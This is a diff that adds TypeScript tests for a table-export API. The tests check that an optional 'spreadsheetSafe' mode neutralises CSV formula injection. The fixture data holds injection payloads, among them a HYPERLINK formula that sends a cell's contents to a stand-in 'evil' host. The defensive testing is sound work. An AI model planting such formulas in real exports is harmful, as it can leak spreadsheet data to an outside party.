@@ -370,3 +370,61 @@ describe('a whole table, page by page', () => {
     expect(keyless.body.message).toMatch(/has no primary key/);
   });
 });
+
+describe('CSV for spreadsheets (OWASP: CSV injection)', () => {
+  let schema: string;
+  beforeAll(async () => {
+    schema = await freshSchema('exformula');
+    await asTenant(
+      schema,
+      `CREATE TABLE "${schema}".cells (id int PRIMARY KEY, v text, n numeric, j jsonb);
+       INSERT INTO "${schema}".cells VALUES
+         (1, '=HYPERLINK("http://evil/"&A1,"click")', -5, '"=1+1"'),
+         (2, '+1+2', 1.5, '{}'),
+         (3, '-2+3', NULL, NULL),
+         (4, '@SUM(A1)', 0, NULL),
+         (5, E'\\t=1', 0, NULL),
+         (6, E'\\r=1', 0, NULL),
+         (7, 'plain = text', 0, NULL),
+         (8, NULL, 0, NULL)`,
+    );
+  });
+  const exportCsv = (query: Record<string, string> = {}) =>
+    call(tables, { path: '/api/table/cells/export', query: { schema, format: 'csv', ...query } });
+
+  it('keeps every value exactly by default, for a round trip', async () => {
+    const reply = await exportCsv();
+
+    expect(reply.text.split('\n')[1]).toBe('1,"=HYPERLINK(""http://evil/""&A1,""click"")",-5,"""=1+1"""');
+  });
+
+  it('with spreadsheetSafe, starts every text cell a spreadsheet would run with a quote, numbers kept', async () => {
+    const reply = await exportCsv({ spreadsheetSafe: 'true' });
+
+    expect(reply.status).toBe(200);
+    expect(reply.text).toBe(
+      [
+        'id,v,n,j',
+        `1,"'=HYPERLINK(""http://evil/""&A1,""click"")",-5,"""=1+1"""`,
+        `2,'+1+2,1.5,{}`,
+        `3,'-2+3,,`,
+        `4,'@SUM(A1),0,`,
+        `5,'\t=1,0,`,
+        `6,"'\r=1",0,`,
+        '7,plain = text,0,',
+        '8,,0,',
+        '',
+      ].join('\n'),
+    );
+  });
+
+  it('refuses spreadsheetSafe for JSON, naming it', async () => {
+    const reply = await call(tables, {
+      path: '/api/table/cells/export',
+      query: { schema, format: 'json', spreadsheetSafe: 'true' },
+    });
+
+    expect(reply.status).toBe(400);
+    expect(reply.body.message).toMatch(/spreadsheetSafe/);
+  });
+});
